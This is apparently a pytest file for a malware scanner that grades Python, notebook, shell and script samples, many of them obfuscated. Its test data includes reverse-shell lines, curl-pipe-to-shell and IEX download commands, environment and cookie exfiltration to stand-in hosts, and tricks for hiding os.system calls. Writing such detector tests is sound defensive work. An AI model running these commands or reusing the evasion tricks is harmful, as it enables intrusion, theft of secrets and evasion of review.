"""Ways to hide from whoever reads Python, scripts, notebooks and bytecode. All payloads are harmless."""

import base64
import json
import pickle
import time

import pytest

from ringfence.artifacts.judging import judge, judging_budget
from ringfence.artifacts.reader import Reader
from ringfence.core.verdicts import Verdict


def verdict(data: str | bytes, name: str = "modeling_acme.py") -> Verdict:
    whole = data.encode() if isinstance(data, str) else data
    return judge(Reader.of_bytes(whole, budget=judging_budget()), name=name).judgement.verdict


@pytest.mark.parametrize(
    "source",
    [
        "exec(__import__('base64').b64decode('cGFzcw=='))",
        "import zlib, base64\np = base64.b64decode('eJwrSCwuBgAEKAGm')\nexec(zlib.decompress(p))",
        "import codecs\nexec(codecs.decode('cnff', 'rot13'))",
        "import marshal\nexec(marshal.loads(b'x'))",
        "import requests\nexec(requests.get('https://code.example').text)",
        "import urllib.request as u\nwith u.urlopen('https://code.example') as r:\n    s = r.read()\neval(s)",
        "def f():\n    import base64\n    return base64.b64decode('cGFzcw==')\nexec(f())",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')",
        "getattr(__import__(''.join(map(chr, [111, 115]))), 'metsys'[::-1])('true')",
        "import builtins\ngetattr(builtins, bytes.fromhex('65786563').decode())('pass')",
        (
            "import os, json, urllib.request\n"
            "urllib.request.urlopen('https://c.example', data=json.dumps(dict(os.environ)).encode())"
        ),
        "import os\nos.system('curl https://c.example/x | sh')",
        "import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
    ],
)
def test_hidden_code_that_runs_on_import_is_malicious(source: str) -> None:
    assert verdict(source) == Verdict.MALICIOUS


@pytest.mark.parametrize(
    "source",
    [
        "import sys\nsys.modules['os'].system('true')",
        "import pathlib, shutil\nshutil.copy(pathlib.Path.home() / '.ssh' / 'id_rsa', 'x')",
        "__import__('urllib.request').request.urlopen('http://192.0.2.1/')",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['true'])",
        "''.__class__.__mro__[-1].__subclasses__()[99]('true')",
        "__import__('os').__dict__['system']('true')",
        "import torch\ntorch.os.system('true')",
        "import os\nd = {'a': os.system}\nd['a']('true')",
        "import os\nfor c in (os.system,):\n    c('true')",
        "import os\nf = os.system\ndef g(a):\n    a('true')\ng(f)",
        "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()",
        "list(map(exec, ['pass']))",
        "@exec\n@input\nclass X: pass",
        "import os\nclass A:\n    __class_getitem__ = os.system\nA['true']",
        "class E:\n    def __init_subclass__(cls):\n        __import__('os').system('true')",
        "def __getattr__(name):\n    import os\n    os.system('true')",
        "eval(compile(\"import os\\nos.system('true')\", '', 'exec'))",
        "exec(\"exec('import os; os.system(1)')\")",
        "(lambda: __import__('os').system('true'))()",
        "import ctypes\nctypes.CDLL(None).system(b'true')",
        "[c for c in ().__class__.__base__.__subclasses__()][0].__init__.__globals__['system']('true')",
        "open(__import__('os').path.expanduser('~/.bashrc'), 'a').write('x')",
        "import pickle, base64\npickle.loads(base64.b64decode('gASVLg=='))",
        "x = 1;" + " " * 300 + "import os",
        "# coding: utf-7\nprint(1)",
        "# coding: unicode_escape\nprint(1)",
        "if True:\n    import subprocess\n    try:\n        subprocess.run('true')\n    except OSError: pass",
    ],
)
def test_detours_to_a_command_are_suspicious_at_least(source: str) -> None:
    assert verdict(source) >= Verdict.SUSPICIOUS


def test_encoded_code_is_malicious_in_a_function_that_nobody_calls_too() -> None:
    assert verdict("import base64\n\ndef f(x):\n    exec(base64.b64decode(x))\n") == Verdict.MALICIOUS


@pytest.mark.parametrize(
    "source",
    [
        b'a="' + b"A" * 900_000 + b'"\n' + b"".join(b'b%d=a+"x"\n' % i for i in range(5_000)),
        b"x" + b".a()" * 5_000,
        b"x = " + b"+".join([b"chr(1)"] * 50_000) + b"\n",
        b"-" * 200_000 + b"1",
        b"(" * 300 + b")" * 300,
        b"x = " + b"lambda: " * 3_000 + b"1",
        b"x = 1\0",
        b"\xff\xfe",
    ],
)
def test_code_made_to_be_too_much_is_inconclusive(source: bytes) -> None:
    started = time.process_time()
    assert verdict(source) == Verdict.INCONCLUSIVE
    assert time.process_time() - started < 20


@pytest.mark.parametrize(
    "source",
    [
        b"from builtins import getattr as g, vars as g\nfrom functools import partial as g\n"
        + b"g(" * 90
        + b"os"
        + b",'x')" * 90,
        b"def f(): f()\n" * 3_000 + b"f()\n",
        b"".join(b"x%d = x%d\n" % (i, i - 1) for i in range(1, 5_000)),
    ],
)
def test_names_that_lead_in_circles_end(source: bytes) -> None:
    started = time.process_time()
    assert verdict(source) == Verdict.UNKNOWN
    assert time.process_time() - started < 20


def test_a_notebook_hides_nothing_in_its_cells() -> None:
    cells = [
        {"cell_type": "code", "source": ["import base64\n", "%time x = 1\n", "!ls\n"]},
        {"cell_type": "code", "source": "this is no Python"},
        {"cell_type": "code", "source": ["exec(base64.b64decode('cGFzcw=='))"]},
    ]
    assert verdict(json.dumps({"cells": cells, "nbformat": 4}), "try.ipynb") == Verdict.MALICIOUS


@pytest.mark.parametrize(
    "line", ["!curl -s https://c.example/x | sh", "%%bash\ncurl https://c.example/x | bash"]
)
def test_a_notebook_that_fetches_and_runs_is_suspicious(line: str) -> None:
    notebook = {"cells": [{"cell_type": "code", "source": line}], "nbformat": 4}
    assert verdict(json.dumps(notebook), "try.ipynb") == Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.sh", "wget -qO- https://c.example/x | sudo bash"),
        ("a.sh", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"),
        ("a.sh", "echo cHdk | base64 -d | sh"),
        ("a.sh", "bash <(curl -s https://c.example/x)"),
        ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://c.example')"),
        ("a.bat", "powershell -w hidden -enc AAAA"),
        ("a.bat", "certutil -urlcache -f https://c.example/x x.exe"),
        ("a.js", "eval(atob('MQ=='))"),
        ("a.js", "new Function(atob('MQ=='))()"),
        ("a.js", "fetch('https://c.example/?' + document.cookie)"),
        ("a.vbs", 'Set s = CreateObject("WScript.Shell")'),
    ],
)
def test_scripts_that_only_attacks_have_are_suspicious(name: str, text: str) -> None:
    assert verdict(text, name) == Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.sh", "#!/bin/bash\nset -e\nwget -O model.bin https://m.example/model.bin && python convert.py\n"),
        ("a.sh", "pip install -r requirements.txt\nchmod +x run.sh\n./run.sh\n"),
        ("a.bat", "@echo off\npython run.py\n"),
        ("a.js", "const p = require('child_process');\n"),
        ("kernel.cu", "__global__ void f() {}\n"),
    ],
)
def test_everyday_scripts_are_unknown(name: str, text: str) -> None:
    assert verdict(text, name) == Verdict.UNKNOWN


@pytest.mark.parametrize("start", ["import ", "import\t"])
def test_a_path_file_that_runs_code_is_malicious(start: str) -> None:
    assert verdict(f"../lib\n{start}os; os.getcwd()\n", "x.pth") == Verdict.MALICIOUS


@pytest.mark.parametrize(
    "source",
    [
        "__builtins__.exec(\"import os; os.system('true')\")",
        "__builtins__.__import__('os').system('true')",
        "print.__self__.exec(\"import os; os.system('true')\")",
        "import random\nrandom._os.system('true')",
        "import os\nos.system.__call__('true')",
        "import operator, os\noperator.methodcaller('system', 'true')(os)",
        "import os\ndef a():\n    return os.system\na()('true')",
        "import os\nclass A:\n    run = os.system\nA.run('true')",
        "import os\na = type('A', (), {})()\na.z = os.system\na.z('true')",
        "__import__('%s%s' % ('o', 's')).system('true')",
        "__import__('{}{}'.format('o', 's')).system('true')",
        "__import__(f\"{'o'}{'s'}\").system('true')",
        "import sys\n__import__(sys.argv[0]).system('true')",
        "class M(type):\n def __new__(*a):\n  __import__('os').system('true')\nclass X(metaclass=M): 0",
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), {})()",
        "exec(open('weights.bin').read())",
    ],
)
def test_rarer_detours_to_a_command_are_suspicious_at_least(source: str) -> None:
    assert verdict(source) >= Verdict.SUSPICIOUS


def test_a_program_that_asks_for_more_than_being_one_runs_nothing_on_import() -> None:
    source = "import os, sys\nif sys.platform != 'win32' and __name__ == '__main__':\n    os.system('true')\n"
    assert verdict(source) == Verdict.UNKNOWN


_PICKLE = b"cos\nsystem\n(S'true'\ntR."


@pytest.mark.parametrize(
    "source",
    [
        f"import pickle\npickle.loads({_PICKLE!r})",
        f"import pickle as p\nDATA = {_PICKLE!r}\np.loads(DATA)",
        f"import _pickle, io\n_pickle.load(io.BytesIO({_PICKLE!r}))",
        f"from io import BytesIO\nimport pickle\nf = BytesIO({_PICKLE!r})\npickle.Unpickler(f).load()",
        f"import torch, io\ntorch.load(io.BytesIO(bytes({list(_PICKLE)!r})), weights_only=False)",
        f"import joblib, io\njoblib.load(io.BytesIO(bytes.fromhex({_PICKLE.hex()!r})))",
        f"import pickle, base64\npickle.loads(base64.b64decode({base64.b64encode(_PICKLE).decode()!r}))",
        "import marshal\nx = marshal.loads(b'\\xe3' + b'\\0' * 40)",
        "import torch, io\ntorch.load(io.BytesIO(b'PK\\3\\4' + b'\\0' * 40))",
    ],
)
def test_a_pickle_within_code_that_is_imported_is_malicious(source: str) -> None:
    assert verdict(source) == Verdict.MALICIOUS


def test_a_pickle_within_a_function_that_nobody_calls_is_suspicious() -> None:
    assert verdict(f"import pickle\ndef f():\n    return pickle.loads({_PICKLE!r})") == Verdict.SUSPICIOUS


def test_a_harmless_pickle_within_code_is_only_told() -> None:
    source = f"import pickle\nTABLE = pickle.loads({pickle.dumps({'a': [1, 2]})!r})"
    assert verdict(source) == Verdict.UNKNOWN


def test_many_pickles_within_code_cost_no_more_than_one() -> None:
    source = f"import pickle\nD = {b'(' * 400_000!r}\n" + "pickle.loads(D)\n" * 2_000
    started = time.process_time()
    assert verdict(source) >= Verdict.UNKNOWN
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "unit", ["<a '", '<a "', "<script>", "<svg ", "<a b=", "<a href=javascript:x ", "<!--", "&#"]
)
def test_a_page_costs_what_its_size_allows(unit: str) -> None:
    started = time.process_time()
    assert verdict("<html>" + unit * (1_000_000 // len(unit)), "page.html") <= Verdict.INCONCLUSIVE
    assert time.process_time() - started < 20


@pytest.mark.parametrize(
    "source",
    [
        "@app.get('/x')\ndef x(c):\n    import os\n    return os.popen(c).read()",
        "@routes.post('/x')\nasync def x(request):\n    c = request.query['c']\n    exec(c)",
        (
            "class N:\n    FUNCTION = 'run'\n    def run(self, code):\n        exec(code)\n"
            "NODE_CLASS_MAPPINGS = {'N': N}"
        ),
        "exec(''.join(map(chr, [112, 97, 115, 115])))",
        "exec(''.join(chr(each) for each in [112, 97, 115, 115]))",
        "\uff45\uff58\uff45\uff43('pass')",
        "import requests, os\nrequests.get('https://x.example.com/' + os.getlogin())",
        "import requests\nrequests.get('https://x.example.com/?' + str(1))",
        "import requests\nrequests.get('http://192.0.2.1/x')",
        "import requests\nrequests.get('https://x.example.com/x', params={'a': 1})",
        "import requests\ndef f():\n    pass\nrequests.get('https://x.example.com/x')",
        "import requests\nexec(requests.get('https://x.example.com/x').text)",
    ],
)
def test_what_others_or_numbers_tell_it_to_run_is_suspicious_at_least(source: str) -> None:
    assert verdict(source) >= Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "source",
    [
        "@app.get('/x')\ndef x(c):\n    return c",
        (
            "class N:\n    FUNCTION = 'run'\n    def run(self, image):\n        return image\n"
            "NODE_CLASS_MAPPINGS = {'N': N}"
        ),
        "\u2113 = 1\nprint(''.join(map(chr, [112])))",
        "import requests\nprint(requests.get('https://x.example.com/cat.jpg', stream=True).raw)",
    ],
)
def test_everyday_nodes_servers_and_examples_are_unknown(source: str) -> None:
    assert verdict(source) == Verdict.UNKNOWN


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("m.cpython-311.pyc", Verdict.UNKNOWN),
        ("m.cpython-311.opt-1.pyc", Verdict.UNKNOWN),
        ("m.pypy39.pyc", Verdict.UNKNOWN),
        ("m.pyc", Verdict.SUSPICIOUS),
        ("m.cpython-311.pyo", Verdict.SUSPICIOUS),
        ("m", Verdict.SUSPICIOUS),
    ],
)
def test_bytecode_that_is_a_module_of_its_own_is_suspicious(name: str, expected: Verdict) -> None:
    code = b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40)
    assert verdict(code, name) == expected


@pytest.mark.parametrize("module", ["urllib.request", "http.client", "httpx"])
def test_a_module_that_is_imported_by_a_function_is_known_by_its_whole_name(module: str) -> None:
    call = {"urllib.request": "urlopen", "http.client": "HTTPSConnection", "httpx": "post"}[module]
    source = f"import importlib\nm = importlib.import_module({module!r})\nm.{call}('https://x.example.com')\n"
    assert verdict(source) == Verdict.SUSPICIOUS


def test_a_module_that_connects_and_whose_name_is_put_together_is_suspicious_in_a_function_too() -> None:
    source = "import importlib\ndef f():\n    return importlib.import_module('url' + 'lib.request')\n"
    assert verdict(source) == Verdict.SUSPICIOUS
